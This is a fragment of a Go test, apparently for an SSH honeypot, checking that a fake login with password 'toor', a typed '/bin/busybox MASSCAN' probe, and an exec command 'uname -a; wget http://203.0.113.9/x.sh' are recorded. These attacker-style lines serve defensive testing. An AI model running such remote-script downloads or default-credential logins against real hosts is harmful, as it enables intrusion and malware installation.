	// an interactive shell on a pty (ssh -tt), fed by a pipe
	out, err = l.InClient(20*time.Second, "sh", "-c", "printf 'cat /proc/cpuinfo\\n/bin/busybox MASSCAN\\nexit\\n' | "+
		"sshpass -p toor ssh -tt -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PreferredAuthentications=password "+
		"-o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o ConnectTimeout=5 admin@"+RespIP4)
	if err != nil || !strings.Contains(out, "admin@localhost:~$") || !strings.Contains(out, "model name") ||
		!strings.Contains(out, "MASSCAN: applet not found") {
		t.Errorf("ssh -tt: %v\n%s", err, out)
	}
	var accepted, command, url, typed bool
	for _, a := range appEvents(t, l, "ssh") {
		if a["accepted"] == true && str(a["password"]) == "toor" && str(a["attempt"]) == "1" {
			accepted = true
		}
		if str(a["session_request"]) == "exec" && str(a["command"]) == "uname -a; wget http://203.0.113.9/x.sh" {
			command = true
			url = str(a["urls"]) == "[http://203.0.113.9/x.sh]"
		}
		if a["session_request"] == nil && str(a["command"]) == "/bin/busybox MASSCAN" {
			typed = true
		}
		if auth, ok := a["auth"].(map[string]any); ok && auth["protocol"] != "ssh" {
			t.Errorf("auth record %v", auth)
		}
	}
	if !accepted || !command || !url || !typed {
		t.Errorf("accepted login %v, command recorded %v with its URL %v, typed line recorded %v", accepted, command, url, typed)
	}
}
